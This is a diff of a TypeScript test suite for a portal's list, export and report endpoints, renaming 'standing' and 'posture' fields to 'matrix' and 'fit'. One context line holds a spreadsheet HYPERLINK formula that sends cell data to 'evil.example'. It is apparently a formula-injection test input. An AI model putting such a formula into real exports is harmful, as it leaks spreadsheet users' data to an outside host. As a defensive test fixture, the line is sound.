@@ -11,7 +11,7 @@ import { entity } from '../__testUtils__/entities';
 import { excessOf } from '../__testUtils__/excessOf';
 import { Portal } from '../__testUtils__/Portal';
 import { alsoOwnedBy } from '../__testUtils__/TestCatalog';
-import { standingOf } from '../__testUtils__/standingOf';
+import { matrixOf } from '../__testUtils__/matrixOf';
 
 const formula = '=HYPERLINK("http://evil.example?"&A1,"open me")';
 
@@ -60,7 +60,7 @@ const filters: [query: string, matches: Matches][] = [
   ['built=2&built=6', ({ built }) => built === 2 || built === 6],
   ['platform=true', ({ platform }) => platform],
   ['platform=false', ({ platform }) => !platform],
-  ['posture=under-built', ({ posture }) => posture === 'under-built'],
+  ['fit=under-built', ({ fit }) => fit === 'under-built'],
   ['status=unassessed', ({ status }) => status === 'unassessed'],
   [
     'finding=no-backups',
@@ -132,9 +132,9 @@ describe('lists, exports and reports', () => {
     );
     const kinds = query.startsWith('kind=') ? '' : '&kind=*';
     const { body } = await portal.get(`/v1/report?${query}${kinds}`);
-    const { totals, standing }: Report = body;
+    const { totals, matrix }: Report = body;
     expect(totals).toEqual(countsOf(expected));
-    expect(standing).toEqual(standingOf(expected));
+    expect(matrix).toEqual(matrixOf(expected));
   });
 
   it('count an entity with each of its owners, and once in total', async () => {
